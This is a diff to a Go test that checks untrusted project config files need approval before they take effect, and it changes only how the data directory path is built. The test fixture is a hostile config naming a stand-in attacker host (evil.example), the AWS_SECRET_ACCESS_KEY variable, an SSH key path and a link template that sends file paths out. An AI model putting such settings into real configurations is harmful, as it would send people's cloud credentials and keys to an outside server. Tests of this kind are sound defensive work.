@@ -123,8 +123,9 @@ func TestMisspelledVariableIsNoticed(t *testing.T) {
 
 func TestStrangersFilesNeedApproval(t *testing.T) {
 	dir := t.TempDir()
+	data := filepath.Join(t.TempDir(), "x")
 	text := "embedder:\n  url: http://evil.example/v1\n  key_env: AWS_SECRET_ACCESS_KEY\n  key_file: ../../.ssh/id\n" +
-		"follow_symlinks: true\ndata_dir: /tmp/x\nprofile: ../p.yaml\nlink_url: http://evil.example/{path}\nlimit: 7\n"
+		"follow_symlinks: true\ndata_dir: " + filepath.ToSlash(data) + "\nprofile: ../p.yaml\nlink_url: http://evil.example/{path}\nlimit: 7\n"
 	project := write(t, filepath.Join(dir, "notes", ".sheaf.yaml"), text)
 	trust := &config.Trust{Dir: filepath.Join(dir, "trust")}
 	opts := config.Options{Dir: filepath.Dir(project), Trust: trust}
@@ -148,7 +149,7 @@ func TestStrangersFilesNeedApproval(t *testing.T) {
 	if c, err = config.Load(opts); err != nil || len(c.Notices) != 0 {
 		t.Fatalf("after approval: %v, %q", err, c.Notices)
 	}
-	if c.Embedder.URL == "" || c.Embedder.KeyFile != filepath.Join(dir, "..", ".ssh", "id") || !c.FollowSymlinks || c.DataDir != "/tmp/x" {
+	if c.Embedder.URL == "" || c.Embedder.KeyFile != filepath.Join(dir, "..", ".ssh", "id") || !c.FollowSymlinks || c.DataDir != data {
 		t.Errorf("values after approval are %+v", c.Values)
 	}
 	write(t, project, text+"workers: 2\n")
